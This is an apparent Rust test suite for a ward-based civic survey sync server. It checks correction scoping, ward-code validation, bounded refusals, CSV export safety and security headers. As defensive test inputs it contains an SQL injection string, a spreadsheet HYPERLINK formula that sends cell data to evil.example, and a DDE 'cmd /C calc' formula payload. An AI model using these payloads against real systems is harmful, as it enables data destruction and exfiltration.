//! What a public server owes beside sync: corrections and withdrawals stay
//! in their ward, ward codes are units in force, a refusal stores and says
//! a bounded amount, exports cannot carry formulas, every error is the
//! API's bilingual JSON, and every response carries the security headers.

mod support;

use axum::body::Body;
use axum::http::{Request, StatusCode};
use chrono::Utc;
use thamgia_core::account::Role;
use thamgia_core::forum::{Forum, Recommendation};
use thamgia_core::{
    AnswerValue, ApiError, ApiErrorCode, Mutation, MutationChange, MutationOutcome, PushRequest,
    PushResponse, QuarantinedRecord, RefusalCode, Response, SCHEMA_VERSION,
};
use uuid::Uuid;

use support::{server, TestServer};

const BA_DINH: &str = "00004";

fn response(id: u128, ward: &str) -> Response {
    let survey = thamgia_server::seed::demo_survey().expect("demo survey");
    let mut response = thamgia_server::seed::sample_response(
        &survey,
        Uuid::from_u128(id),
        id as usize,
        Utc::now(),
    );
    response.ward_code = ward.to_owned();
    response
}

fn forum(id: u128, ward: &str) -> Forum {
    support::valid_forum(Uuid::from_u128(id), ward)
}

/// Pushes `changes` as one batch from a new install with `token`.
async fn push(server: &TestServer, token: &str, changes: Vec<MutationChange>) -> PushResponse {
    server.push_changes(token, changes).await
}

fn submit(response: Response) -> MutationChange {
    MutationChange::SubmitResponse { response }
}

fn refusal(outcome: &MutationOutcome) -> &thamgia_core::Localized {
    match outcome {
        MutationOutcome::Rejected { message, .. } => message,
        other => panic!("expected a refusal, got {other:?}"),
    }
}

/// The rule a refusal names, for programs.
fn refusal_code(outcome: &MutationOutcome) -> RefusalCode {
    match outcome {
        MutationOutcome::Rejected { code, .. } => *code,
        other => panic!("expected a refusal, got {other:?}"),
    }
}

/// A collector of another ward than Ba Đình, and its token.
async fn other_ward_collector(server: &TestServer) -> (String, String) {
    let other = server
        .state
        .units
        .units
        .iter()
        .find(|unit| unit.code != BA_DINH)
        .expect("another ward")
        .code
        .clone();
    server
        .create_account("khac.thuthap", Role::Collector, Some(&other))
        .await;
    (other, server.sign_in("khac.thuthap").await)
}

#[tokio::test]
async fn a_correction_must_name_a_record_of_its_own_survey_and_ward() {
    let server = server().await;
    let ba_dinh = server.sign_in("badinh").await;
    let (other_ward, other) = other_ward_collector(&server).await;
    push(
        &server,
        &ba_dinh,
        vec![
            submit(response(1, BA_DINH)),
            MutationChange::SubmitForum {
                forum: forum(2, BA_DINH),
            },
        ],
    )
    .await;
    let counted = server
        .database()
        .counted_response_count()
        .await
        .expect("count");

    // Another ward's collector names Ba Đình's response and forum.
    let mut cross = response(3, &other_ward);
    cross.corrects = Some(Uuid::from_u128(1));
    let mut cross_forum = forum(4, &other_ward);
    cross_forum.corrects = Some(Uuid::from_u128(2));
    let answer = push(
        &server,
        &other,
        vec![
            submit(cross),
            MutationChange::SubmitForum { forum: cross_forum },
        ],
    )
    .await;
    // The correction rule refuses them (the sender may act in its own ward).
    for result in &answer.results[..2] {
        assert_eq!(
            refusal_code(&result.outcome),
            RefusalCode::CorrectionRefused
        );
        assert!(refusal(&result.outcome).en.contains("another ward"));
    }

    // A response correcting itself, or a response the server never held.
    let mut itself = response(5, BA_DINH);
    itself.corrects = Some(itself.id);
    let mut orphan = response(6, BA_DINH);
    orphan.corrects = Some(Uuid::from_u128(0xDEAD));
    let answer = push(&server, &ba_dinh, vec![submit(itself), submit(orphan)]).await;
    for result in &answer.results[..2] {
        assert_eq!(
            refusal_code(&result.outcome),
            RefusalCode::CorrectionRefused
        );
    }
    assert!(refusal(&answer.results[0].outcome).en.contains("itself"));
    assert!(refusal(&answer.results[1].outcome)
        .en
        .contains("does not hold"));
    assert_eq!(
        server
            .database()
            .counted_response_count()
            .await
            .expect("count"),
        counted,
        "Ba Đình's response still counts and nothing else does"
    );
    let forums: (_, Vec<serde_json::Value>) = server
        .get_as(&server.city_token, "/api/v1/forums?ward=00004")
        .await;
    assert_eq!(forums.1.len(), 1, "Ba Đình's forum is not hidden");

    // The same ward's correction supersedes the original: one counts.
    let mut correction = response(7, BA_DINH);
    correction.corrects = Some(Uuid::from_u128(1));
    let answer = push(&server, &ba_dinh, vec![submit(correction)]).await;
    assert_eq!(answer.results[0].outcome, MutationOutcome::Applied);
    assert_eq!(
        server
            .database()
            .counted_response_count()
            .await
            .expect("count"),
        counted
    );
}

#[tokio::test]
async fn another_wards_early_withdrawal_does_not_reach_a_later_response() {
    let server = server().await;
    let ba_dinh = server.sign_in("badinh").await;
    let (_, other) = other_ward_collector(&server).await;
    let withdraw = |id: u128| MutationChange::WithdrawResponse {
        response_id: Uuid::from_u128(id),
        withdrawn_at: Utc::now(),
    };
    // Another ward withdraws an id before Ba Đình sends it.
    push(&server, &other, vec![withdraw(10)]).await;
    let answer = push(&server, &ba_dinh, vec![submit(response(10, BA_DINH))]).await;
    assert_eq!(answer.results[0].outcome, MutationOutcome::Applied);
    assert!(server
        .database()
        .response(Uuid::from_u128(10))
        .await
        .expect("read")
        .is_some());

    // Ba Đình's own early withdrawal (a restored server forgot the
    // response; the tablet sends its tombstone) does withdraw it.
    push(&server, &ba_dinh, vec![withdraw(11)]).await;
    let answer = push(&server, &ba_dinh, vec![submit(response(11, BA_DINH))]).await;
    assert_eq!(answer.results[0].outcome, MutationOutcome::Withdrawn);

    // Withdrawing a response the server holds in another ward is refused.
    let answer = push(&server, &other, vec![withdraw(10)]).await;
    refusal(&answer.results[0].outcome);
    assert!(!server
        .database()
        .is_withdrawn(Uuid::from_u128(10))
        .await
        .expect("read"));
}

#[tokio::test]
async fn every_ward_code_pushed_must_be_a_unit_in_force() {
    let server = server().await;
    let city = server.city_token.clone();
    let answer = push(
        &server,
        &city,
        vec![
            submit(response(20, "99999")),
            submit(response(21, "00004'); DROP TABLE responses; --")),
            MutationChange::SubmitForum {
                forum: forum(22, "99999"),
            },
            // PostgreSQL's text holds no NUL: the refusal must still be kept.
            submit(response(24, "\0\u{1b}[31m")),
            submit(response(23, BA_DINH)),
        ],
    )
    .await;
    for result in &answer.results[..4] {
        assert_eq!(refusal_code(&result.outcome), RefusalCode::UnknownWard);
        let message = refusal(&result.outcome);
        assert!(message.en.contains("current list of units"), "{message:?}");
        assert!(
            message.vi.contains("danh sách đơn vị hành chính"),
            "{message:?}"
        );
    }
    assert_eq!(answer.results[4].outcome, MutationOutcome::Applied);
    assert_eq!(
        server.database().response_ids().await.expect("ids"),
        vec![Uuid::from_u128(23)]
    );
}

#[tokio::test]
async fn a_refusal_quotes_a_short_prefix_and_keeps_a_bounded_payload() {
    let server = server().await;
    let ba_dinh = server.sign_in("badinh").await;
    let huge_id = "q".repeat(1024 * 1024);
    let mut unknown = response(30, BA_DINH);
    unknown
        .answers
        .insert(huge_id.clone(), AnswerValue::Text("x".to_owned()));
    let request = PushRequest {
        client_id: Uuid::new_v4(),
        schema_version: SCHEMA_VERSION,
        mutations: vec![Mutation {
            seq: 1,
            change: submit(unknown),
        }],
    };
    let sent = serde_json::to_vec(&request).expect("serialises");
    let (status, body) = server
        .post_raw_as(Some(&ba_dinh), "/api/v1/sync/push", sent.clone())
        .await;
    assert_eq!(status, StatusCode::OK);
    assert!(
        body.len() < 4 * 1024,
        "a 1 MiB id got a {} byte answer",
        body.len()
    );
    let answer: PushResponse = serde_json::from_slice(&body).expect("answer");
    assert!(refusal(&answer.results[0].outcome)
        .en
        .contains("is not in the survey"));

    let (status, listed): (_, Vec<QuarantinedRecord>) = server
        .get_as(&server.city_token, "/api/v1/quarantine")
        .await;
    assert_eq!(status, StatusCode::OK);
    let record = &listed[0];
    assert_eq!(record.sent_by.as_deref(), Some("badinh"));
    assert_eq!(record.kind, "submit_response");
    assert_eq!(record.ward_code.as_deref(), Some(BA_DINH));
    assert!(!record.payload_complete);
    assert!(record.payload_bytes > 1024 * 1024);
    assert_eq!(record.payload_sha256.as_ref().map(String::len), Some(64));
    assert!(record.reasons[0].en.chars().count() <= thamgia_core::limits::MAX_MESSAGE_CHARS);
}

#[tokio::test]
async fn another_wards_refusal_quotes_a_short_prefix_of_the_code_asked_for() {
    let server = server().await;
    let ba_dinh = server.sign_in("badinh").await;
    let huge_ward = "9".repeat(1024 * 1024);
    let pull = serde_json::json!({
        "client_id": Uuid::new_v4(), "schema_version": SCHEMA_VERSION, "cursor": 0,
        "limit": 10, "ward_code": huge_ward,
    });
    let answers = [
        server
            .post_raw_as(
                Some(&ba_dinh),
                "/api/v1/sync/pull",
                serde_json::to_vec(&pull).expect("serialises"),
            )
            .await,
        // A URI holds at most 64 KiB.
        server
            .get_raw_as(
                &ba_dinh,
                &format!("/api/v1/forums?ward={}", &huge_ward[..60_000]),
            )
            .await,
    ];
    for (status, body) in answers {
        assert_eq!(status, StatusCode::FORBIDDEN);
        assert!(
            body.len() < 1024,
            "a 1 MiB ward code got a {} byte answer",
            body.len()
        );
        let text = String::from_utf8(body).expect("text");
        assert!(
            text.contains("9999… (1048576)") || text.contains("9999… (60000)"),
            "{text}"
        );
    }
}

#[tokio::test]
async fn exports_neutralise_formulas_and_read_back_as_text() {
    let server = server().await;
    let ba_dinh = server.sign_in("badinh").await;
    let formula = "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Bấm vào đây\")";
    let mut answered = response(40, BA_DINH);
    let text_question = answered
        .answers
        .iter()
        .find(|(_, value)| matches!(value, AnswerValue::Text(_)))
        .map(|(name, _)| name.clone())
        .expect("the demo survey has a text question");
    answered
        .answers
        .insert(text_question, AnswerValue::Text(formula.to_owned()));
    let mut with_formulas = forum(41, BA_DINH);
    with_formulas.place = "@SUM(1+1)*cmd|' /C calc'!A0".to_owned();
    with_formulas.recommendations = vec![Recommendation {
        id: Uuid::from_u128(42),
        text: "+1+1".to_owned(),
        authority: "-2+3".to_owned(),
        votes: 3,
    }];
    let answer = push(
        &server,
        &ba_dinh,
        vec![
            submit(answered),
            MutationChange::SubmitForum {
                forum: with_formulas,
            },
        ],
    )
    .await;
    assert!(answer
        .results
        .iter()
        .all(|result| result.outcome == MutationOutcome::Applied));

    let survey = thamgia_server::seed::demo_survey().expect("demo survey");
    for path in [
        format!("/api/v1/export/responses.csv?survey={}", survey.id),
        "/api/v1/export/forums.csv".to_owned(),
    ] {
        let (status, body) = server.get_raw_as(&server.city_token, &path).await;
        assert_eq!(status, StatusCode::OK, "{path}");
        let text = String::from_utf8(body).expect("UTF-8");
        let mut reader = csv::ReaderBuilder::new()
            .has_headers(false)
            .from_reader(text.trim_start_matches('\u{feff}').as_bytes());
        let mut cells = 0;
        for record in reader.records() {
            for cell in record.expect("a CSV row").iter() {
                cells += 1;
                let dangerous = cell.starts_with(['=', '+', '@', '\t', '\r'])
                    || (cell.starts_with('-') && cell.parse::<f64>().is_err());
                assert!(
                    !dangerous,
                    "{path}: the cell {cell:?} would run as a formula"
                );
            }
        }
        assert!(cells > 10, "{path}: the export has content");
        assert!(
            text.contains("'=HYPERLINK") || text.contains("'@SUM"),
            "{path}: the formula is kept as text"
        );
    }
}

#[tokio::test]
async fn every_error_is_bilingual_json_and_bearer_is_case_insensitive() {
    let server = server().await;
    let token = server.city_token.clone();
    let request = |method: &str, path: &str, authorization: Option<String>| {
        let mut builder = Request::builder().method(method).uri(path);
        if let Some(value) = authorization {
            builder = builder.header("authorization", value);
        }
        builder.body(Body::empty()).expect("request")
    };
    for (method, path, expected) in [
        ("DELETE", "/api/v1/surveys", StatusCode::METHOD_NOT_ALLOWED),
        ("PUT", "/api/v1/sync/push", StatusCode::METHOD_NOT_ALLOWED),
        ("GET", "/api/v1/townhall/overview", StatusCode::BAD_REQUEST),
        (
            "GET",
            "/api/v1/townhall/trend?ward=00004",
            StatusCode::BAD_REQUEST,
        ),
        (
            "POST",
            "/api/v1/responses/not-a-uuid/withdraw",
            StatusCode::BAD_REQUEST,
        ),
        (
            "GET",
            "/api/v1/surveys/demo/not-a-number",
            StatusCode::BAD_REQUEST,
        ),
        ("GET", "/api/v1/nothing-here", StatusCode::NOT_FOUND),
    ] {
        let response = server
            .router()
            .oneshot_response(request(method, path, Some(format!("Bearer {token}"))))
            .await;
        assert_eq!(response.0, expected, "{method} {path}");
        assert!(
            response.1.starts_with("application/json"),
            "{method} {path}: {}",
            response.1
        );
        let error: ApiError = serde_json::from_slice(&response.2).unwrap_or_else(|_| {
            panic!(
                "{method} {path}: {:?}",
                String::from_utf8_lossy(&response.2)
            )
        });
        assert!(!error.message.vi.is_empty() && !error.message.en.is_empty());
        // Every refusal names its kind for programs.
        let code = match expected {
            StatusCode::METHOD_NOT_ALLOWED => ApiErrorCode::MethodNotAllowed,
            StatusCode::NOT_FOUND => ApiErrorCode::NotFound,
            _ => ApiErrorCode::BadRequest,
        };
        assert_eq!(error.code, code, "{method} {path}");
    }

    let unauthorized = server
        .router()
        .oneshot_response(request("GET", "/api/v1/surveys", None))
        .await;
    assert_eq!(unauthorized.0, StatusCode::UNAUTHORIZED);
    assert!(
        unauthorized.3.starts_with("Bearer"),
        "WWW-Authenticate: {:?}",
        unauthorized.3
    );
    for scheme in ["bearer", "BEARER", "Bearer"] {
        let answer = server
            .router()
            .oneshot_response(request(
                "GET",
                "/api/v1/surveys",
                Some(format!("{scheme} {token}")),
            ))
            .await;
        assert_eq!(answer.0, StatusCode::OK, "{scheme}");
    }
}

#[tokio::test]
async fn every_response_carries_the_security_headers() {
    let server = server().await;
    // An index.html with an inline script, as Trunk builds it.
    let loader = "import init from '/thamgia.js'; await init();";
    std::fs::write(
        server.static_dir().join("index.html"),
        format!("<!doctype html><title>Tham Gia</title><script type=\"module\">{loader}</script>"),
    )
    .expect("index.html");
    let expected_hash = {
        use base64::Engine;
        use sha2::Digest;
        base64::engine::general_purpose::STANDARD.encode(sha2::Sha256::digest(loader.as_bytes()))
    };
    for path in ["/", "/api/v1/health", "/api/v1/nothing", "/some/app/route"] {
        let response = server
            .router()
            .oneshot(Request::get(path).body(Body::empty()).expect("request"))
            .await
            .expect("answer");
        let headers = response.headers();
        let header = |name: &str| {
            headers
                .get(name)
                .and_then(|value| value.to_str().ok())
                .unwrap_or_default()
                .to_owned()
        };
        let policy = header("content-security-policy");
        assert!(policy.contains("default-src 'self'"), "{path}: {policy}");
        assert!(policy.contains("'wasm-unsafe-eval'"), "{path}: {policy}");
        assert!(
            policy.contains("frame-ancestors 'none'"),
            "{path}: {policy}"
        );
        assert!(
            policy.contains(&format!("'sha256-{expected_hash}'")),
            "{path}: the loader's hash in {policy}"
        );
        let scripts = policy
            .split(';')
            .find(|directive| directive.trim().starts_with("script-src"))
            .unwrap_or_default();
        assert!(!scripts.contains("'unsafe-inline'"), "{path}: {scripts}");
        assert!(!scripts.contains("'unsafe-eval'"), "{path}: {scripts}");
        assert_eq!(header("x-content-type-options"), "nosniff", "{path}");
        assert_eq!(header("referrer-policy"), "no-referrer", "{path}");
        assert!(header("permissions-policy").contains("camera=()"), "{path}");
    }
}

#[tokio::test]
async fn the_town_hall_app_is_served_under_its_path_with_its_loader_allowed() {
    let server = server().await;
    let tablet_loader = "import init from '/thamgia.js'; await init();";
    let townhall_loader = "import init from '/townhall/townhall.js'; await init();";
    std::fs::write(
        server.static_dir().join("index.html"),
        format!("<!doctype html><title>Tham Gia</title><script type=\"module\">{tablet_loader}</script>"),
    )
    .expect("index.html");
    let townhall = server.static_dir().join("townhall");
    std::fs::create_dir_all(&townhall).expect("townhall folder");
    std::fs::write(
        townhall.join("index.html"),
        format!("<!doctype html><title>Town hall app</title><script type=\"module\">{townhall_loader}</script>"),
    )
    .expect("townhall/index.html");
    let hash = |script: &str| {
        use base64::Engine;
        use sha2::Digest;
        base64::engine::general_purpose::STANDARD.encode(sha2::Sha256::digest(script.as_bytes()))
    };
    // The town hall app's own routes survive a reload; the tablet app's
    // stay the tablet app's.
    for (path, title) in [
        ("/townhall", "Town hall app"),
        ("/townhall/", "Town hall app"),
        ("/townhall/accounts", "Town hall app"),
        ("/townhall/audit", "Town hall app"),
        ("/", "Tham Gia"),
        ("/forums", "Tham Gia"),
    ] {
        let response = server
            .router()
            .oneshot(Request::get(path).body(Body::empty()).expect("request"))
            .await
            .expect("answer");
        assert_eq!(response.status(), StatusCode::OK, "{path}");
        let policy = response
            .headers()
            .get("content-security-policy")
            .and_then(|value| value.to_str().ok())
            .unwrap_or_default()
            .to_owned();
        // Both apps' loaders may run, whichever page this is.
        for loader in [tablet_loader, townhall_loader] {
            assert!(
                policy.contains(&format!("'sha256-{}'", hash(loader))),
                "{path}: {policy}"
            );
        }
        let body = axum::body::to_bytes(response.into_body(), 1 << 20)
            .await
            .expect("body");
        assert!(
            String::from_utf8_lossy(&body).contains(title),
            "{path} serves the app with {title}"
        );
    }
}

#[tokio::test]
async fn an_oversized_sign_in_is_refused_before_any_work() {
    let server = server().await;
    for body in [
        serde_json::json!({"username": "u".repeat(65), "password": "thamgia-demo", "device_label": "x"}),
        serde_json::json!({"username": "badinh", "password": "p".repeat(257), "device_label": "x"}),
    ] {
        let (status, answer) = server
            .post_raw_as(None, "/api/v1/session", body.to_string())
            .await;
        assert_eq!(status, StatusCode::BAD_REQUEST);
        let error: ApiError = serde_json::from_slice(&answer).expect("bilingual body");
        assert!(error.message.en.contains("at most 64"), "{error:?}");
    }
    assert!(server.state.sign_in_guard.is_empty(), "nothing remembered");
    let (status, _) = server
        .post_raw_as(
            None,
            "/api/v1/session",
            format!(
                r#"{{"username":"{}","password":"x"}}"#,
                "u".repeat(64 * 1024)
            ),
        )
        .await;
    assert_eq!(
        status,
        StatusCode::PAYLOAD_TOO_LARGE,
        "the body limit of a sign-in"
    );
}

/// Calls a router and keeps what these tests read of the answer.
trait OneshotResponse {
    async fn oneshot_response(
        self,
        request: Request<Body>,
    ) -> (StatusCode, String, Vec<u8>, String);
}

impl OneshotResponse for axum::Router {
    async fn oneshot_response(
        self,
        request: Request<Body>,
    ) -> (StatusCode, String, Vec<u8>, String) {
        use http_body_util::BodyExt;
        use tower::ServiceExt;
        let response = self.oneshot(request).await.expect("answer");
        let status = response.status();
        let header = |name: &str| {
            response
                .headers()
                .get(name)
                .and_then(|value| value.to_str().ok())
                .unwrap_or_default()
                .to_owned()
        };
        let content_type = header("content-type");
        let authenticate = header("www-authenticate");
        let body = response
            .into_body()
            .collect()
            .await
            .expect("body")
            .to_bytes()
            .to_vec();
        (status, content_type, body, authenticate)
    }
}

use tower::ServiceExt;
